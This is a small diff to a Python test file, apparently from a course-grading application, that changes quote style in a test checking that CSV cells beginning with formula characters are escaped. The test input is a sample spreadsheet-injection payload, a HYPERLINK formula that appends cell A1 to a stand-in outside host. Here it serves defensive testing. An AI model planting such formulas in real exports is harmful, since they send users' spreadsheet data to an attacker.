@@ -145,7 +145,7 @@ def test_the_class_total_is_the_learners_score_so_far(session, second_course):
 
 @pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
 def test_every_csv_cell_starting_with_a_formula_prefix_is_quoted(prefix):
-    formula = f"{prefix}HYPERLINK(\"http://x.example/\"&A1)"
+    formula = f'{prefix}HYPERLINK("http://x.example/"&A1)'
     assert spreadsheet_safe(formula) == "'" + formula
     assert spreadsheet_safe("ana@example.com") == "ana@example.com"
     assert spreadsheet_safe(12) == 12
